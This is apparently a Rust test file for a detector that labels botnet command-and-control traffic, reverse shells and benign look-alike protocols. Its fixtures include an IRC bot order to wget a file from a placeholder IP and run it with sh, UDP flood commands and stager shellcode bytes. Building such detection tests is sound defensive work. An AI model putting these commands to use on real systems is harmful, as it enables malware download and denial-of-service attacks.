//! Controllers and their hosts.

use crate::messages::{answer, get, noise};
use crate::table::{C2, NOTHING, SUSPECT, Table, Way};

#[test]
fn controllers_and_what_resembles_them() {
    let mut table = Table::default();
    let bot: [(bool, &[u8]); 6] =
        [(true, b"\0\0\0\x01"), (true, b"\x04"), (true, b"mips"), (true, b"\0\0"), (false, b"\0\0"), (true, b"\0\0")];
    table.add("mirai in pieces", Way::Out, 23, C2, Some("mirai"), &bot);
    table.add(
        "mirai, another version",
        Way::Out,
        1312,
        C2,
        Some("mirai"),
        &[(true, b"\0\0\0\x02\x04mips"), (true, b"\0\0"), (false, b"\0\0")],
    );
    table.add("gafgyt", Way::Out, 443, C2, Some("gafgyt"), &[(true, b"BUILD MIPS\n"), (false, b"PING\n"), (true, b"PONG\n")]);
    table.add(
        "gafgyt, another mark",
        Way::Out,
        23,
        C2,
        Some("gafgyt"),
        &[(true, b"BUILD X86\n"), (false, b".udp 145.95.1.9 80 60\n"), (true, b"PONG\n")],
    );
    table.add(
        "kaiten",
        Way::Out,
        6667,
        SUSPECT,
        Some("irc-bot"),
        &[
            (true, b"NICK EPAKQ\nUSER x localhost localhost :LQ\n"),
            (false, b":irc 376 EPAKQ :End\r\n"),
            (true, b"JOIN #x :key\n"),
            (false, b":op!o@h PRIVMSG #x :!* TSUNAMI 145.95.1.9 60\r\n"),
        ],
    );
    let stage = answer("application/octet-stream", &[b"\xfc\xe8\x89\0\0\0\x60".to_vec(), noise(4000)].concat());
    table.add("a stager", Way::Out, 80, SUSPECT, Some("http-stager"), &[(true, &get("/aaa9")), (false, &stage)]);
    table.add(
        "a shell",
        Way::Out,
        4444,
        SUSPECT,
        Some("reverse-shell"),
        &[(true, b"/bin/sh: 0: can't access tty; job control turned off\n$ "), (false, b"id\n")],
    );
    let page = answer("text/html", b"<html>a short link</html>");
    for (name, port, said) in [
        ("a short link", 80, vec![(true, get("/aaa9")), (false, page)]),
        (
            "chat about floods",
            6667,
            vec![
                (true, b"NICK alice\r\nUSER a 0 * :A\r\n".to_vec()),
                (false, b":bob!b@h PRIVMSG #linux :how do I stop a ddos or a udpflood?\r\n".to_vec()),
            ],
        ),
        (
            "chat about updates",
            7000,
            vec![
                (true, b"NICK bob\r\nUSER b 0 * :b\r\n".to_vec()),
                (false, b":x!y@z PRIVMSG #a :update http://example.org/x is out\r\n".to_vec()),
            ],
        ),
        (
            "mqtt",
            1883,
            vec![
                (true, b"\x10\x1a\0\x04MQTT\x04\x02\0\x3c\0\x0eclient-abc1234".to_vec()),
                (false, b"\x20\x02\0\0".to_vec()),
                (true, b"\xc0\0".to_vec()),
                (false, b"\xd0\0".to_vec()),
            ],
        ),
        (
            "bittorrent under way",
            6881,
            vec![(true, b"\0\0\0\x01\x02\0\0\0\0".to_vec()), (false, b"\0\0\0\x01\x01\0\0\0\0".to_vec()), (true, b"\0\0\0\0".to_vec())],
        ),
        ("a game's lines", 9000, vec![(true, b"LOGIN bob x\n".to_vec()), (false, b"PING\n".to_vec()), (true, b"PONG\n".to_vec())]),
        ("a build server's lines", 9000, vec![(true, b"BUILD 42 started\n".to_vec()), (false, b"OK\n".to_vec())]),
    ] {
        let said: Vec<(bool, &[u8])> = said.iter().map(|(by_client, bytes)| (*by_client, &bytes[..])).collect();
        table.add(name, Way::Out, port, NOTHING, None, &said);
    }
    table.check();
}

#[test]
fn further_controllers_and_further_look_alikes() {
    let mut table = Table::default();
    let powershell = b"Windows PowerShell running as user web on WEB01\r\nCopyright (C) 2015 Microsoft Corporation. All rights reserved.\r\n\r\nPS C:\\inetpub> ";
    table.add("a shell of PowerShell", Way::Out, 4444, SUSPECT, Some("reverse-shell"), &[(true, powershell), (false, b"whoami\r\n")]);
    let renamed = b"89\0llY262SUCZ4UJJSGFjY262SUCZ4UJJPCY262SUCZ4UJJuserY262SUCZ4UJJ26-05-01Y262SUCZ4UJJWin 10aaa";
    table.add("njrat between other separators", Way::Out, 1177, C2, Some("njrat"), &[(true, renamed), (false, b"0\0")]);
    let mut about = *b"BB2FA36AAA9541F0BB2FA36AAA9541F0BB2FA36AAA9541F0BB2FA36AAA9541F0BB2FA36AAA9541F0BB2FA36AAA9541F0BB2FA36AAA9541F0";
    about[0] ^= 112;
    about[24] ^= 2;
    table.add("xorddos", Way::Out, 3502, C2, Some("xorddos"), &[(true, &about), (false, b"^B2FA36AAA95C1F0BB2FA36AAA95")]);
    let packed = b"ZBXD\x03\x10\0\0\0\x20\0\0\0\x78\x9c\x01\x02\x03\x04\x05\x06\x07\x08\x09\x0a\x0b\x0c\x0d\x0e";
    for (name, port, said) in [
        ("a monitor, packed", 10051, [(true, &packed[..]), (false, &packed[..])]),
        (
            "lengths before zlib",
            9000,
            [
                (true, b"HELLO\x20\0\0\0\x40\0\0\0\x78\x9c\x01\x02\x03\x04\x05\x06\x07\x08\x09\x0a\x0b\x0c\x0d\x0e\x0f\x10\x11\x12\x13"),
                (false, b"OKAY!\x20\0\0\0\x40\0\0\0\x78\x9c\x01\x02\x03\x04\x05\x06\x07\x08\x09\x0a\x0b\x0c\x0d\x0e\x0f\x10\x11\x12\x13"),
            ],
        ),
        (
            "chat on a stream",
            6667,
            [(true, b"PASS oauth:abc\r\nNICK streamer_1234\r\nJOIN #streamer\r\n"), (false, b":a!a@a PRIVMSG #streamer :!uptime\r\n")],
        ),
        ("times of builds", 2003, [(true, b"build.arm.time 42 1777593600\nbuild.x86.time 40 1777593600\n"), (false, b"ok\n")]),
        (
            "messages between services",
            61613,
            [(true, b"CONNECT\naccept-version:1.2\nhost:x\n\n\0"), (false, b"CONNECTED\nversion:1.2\n\n\0")],
        ),
    ] {
        table.add(name, Way::Out, port, NOTHING, None, &said);
    }
    table.check();
}

#[test]
fn shells_and_rooms_and_what_resembles_them() {
    let mut table = Table::default();
    let attack = [&b"\0\x14"[..], &60_u32.to_be_bytes(), b"\0\x01\x91\x5f\x01\x09\x20\x02", b"\x07\x0280\x00\x00"].concat();
    let (id, who) = (b"uid=33(www) gid=33(www) groups=33(www)\n", b"corp\\bob\r\nPS C:\\Users\\bob> ");
    let kaiten = b":op!o@h PRIVMSG #m :!* SH wget http://145.95.1.9/a -O /tmp/a; sh /tmp/a\r\n";
    for (name, port, kinds, family, said) in [
        ("mirai, ordered before it pings", 1024, C2, "mirai", vec![(true, &b"\0\0\0\x01\x03arm"[..]), (false, &attack[..])]),
        ("a shell without a prompt", 4444, C2, "reverse-shell", vec![(false, &b"id\n"[..]), (true, id)]),
        (
            "a terminal",
            9001,
            C2,
            "reverse-shell",
            vec![(true, &b"www@web:/var$ "[..]), (false, b"ls\n"), (true, b"ls\r\na b\r\nwww@web:/var$ ")],
        ),
        ("PowerShell's prompt", 443, C2, "reverse-shell", vec![(false, &b"whoami\n"[..]), (true, who)]),
        ("kaiten's shell", 6667, SUSPECT, "irc-bot", vec![(true, &b"NICK abcde\nUSER x localhost localhost :x\n"[..]), (false, kaiten)]),
        (
            "a bot by its name and its orders",
            6667,
            C2,
            "irc-bot",
            vec![
                (true, &b"NICK [USA|XP|483920]\r\nUSER x 0 0 :x\r\n"[..]),
                (false, b":irc 332 [USA|XP|483920] #b :.advscan lsass 100 5 0 -r\r\n"),
            ],
        ),
        (
            "a bot that says what it does",
            3303,
            C2,
            "irc-bot",
            vec![
                (true, &b"NICK x00\r\nUSER x00 1 1 :x00\r\n"[..]),
                (false, b":b!~b@h PRIVMSG #x :!x @udpflood 145.95.1.9 65500 60\r\n"),
                (true, b"PRIVMSG #x :\x02[UDP-DDOS]\x02 Attacking 145.95.1.9\r\n"),
            ],
        ),
    ] {
        table.add(name, Way::Out, port, kinds, Some(family), &said);
    }
    for (name, port, said) in [
        (
            "a bot for a team",
            6697,
            vec![
                (true, &b"NICK build-bot\r\nUSER b 0 * :b\r\n"[..]),
                (false, &b":x!y@z PRIVMSG #ci :!update http://ci.example/42\r\n"[..]),
            ],
        ),
        ("telnet to a machine", 23, vec![(false, &b"login: "[..]), (true, b"root\r\n"), (false, b"# "), (true, b"id\r\n"), (false, id)]),
        ("names of programs", 9000, vec![(false, &b"id\n"[..]), (true, b"client-17\n"), (false, b"ls\n"), (true, b"none\n")]),
        ("a receiver of positions", 9000, vec![(true, &b"$GPRMC,123519,A,4807.038,N\n"[..]), (false, b"OK\n")]),
        ("prices", 9000, vec![(true, &b"$ 17.20\n$ 18.00\n"[..]), (false, b"ok\n")]),
    ] {
        table.add(name, Way::Out, port, NOTHING, None, &said);
    }
    table.check();
}
